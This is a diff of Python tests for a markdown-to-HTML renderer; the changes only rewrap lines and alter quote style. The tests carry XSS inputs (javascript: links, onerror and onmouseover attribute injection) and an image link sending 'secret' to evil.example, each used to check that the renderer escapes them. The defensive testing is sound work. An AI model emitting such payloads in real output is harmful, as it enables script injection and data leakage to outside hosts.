@@ -10,7 +10,9 @@ from tests.contract.web_page import read_html
 
 
 def test_tables_lists_code_and_links_are_shown_as_such() -> None:
-    html = markdown("| Size | EU |\n|---|---|\n| S | 36 |\n\n- one\n\n```\nx < 1\n```\n\n~~old~~ **new** [R](https://shop.example/r?a=1&b=2)")
+    html = markdown(
+        "| Size | EU |\n|---|---|\n| S | 36 |\n\n- one\n\n```\nx < 1\n```\n\n~~old~~ **new** [R](https://shop.example/r?a=1&b=2)"
+    )
     for piece in ("<td>S</td>", "<li>one</li>", "x &lt; 1", "<s>old</s>", "<strong>new</strong>"):
         assert piece in html
     assert 'href="https://shop.example/r?a=1&amp;b=2" target="_blank" rel="noopener nofollow noreferrer"' in html
@@ -30,7 +32,7 @@ def test_tables_lists_code_and_links_are_shown_as_such() -> None:
         "<javascript:alert(1)>",
         "[x][1]\n\n[1]: javascript:alert(1)",
         "![a](https://evil.example/pixel.png?q=secret)",
-        "![a\" onerror=x][1]\n\n[1]: https://evil.example/pixel.png",
+        '![a" onerror=x][1]\n\n[1]: https://evil.example/pixel.png',
         '[x](https://a.example "\\" onmouseover=\\"x()")',
     ],
 )
@@ -47,7 +49,12 @@ def test_a_picture_is_told_in_words() -> None:
 
 
 def test_sources_are_numbered_at_most_three_and_linked_only_to_the_web() -> None:
-    found = (Source("A & <b>", 'https://s.example/"x'), Source("Rules"), Source("Evil", "javascript:x"), Source("Fourth", "https://s.example"))
+    found = (
+        Source("A & <b>", 'https://s.example/"x'),
+        Source("Rules"),
+        Source("Evil", "javascript:x"),
+        Source("Fourth", "https://s.example"),
+    )
     html = render(Reply("Yes.", "en", sources=found))
     assert "A &amp; &lt;b&gt;" in html
     assert 'href="https://s.example/&quot;x"' in html
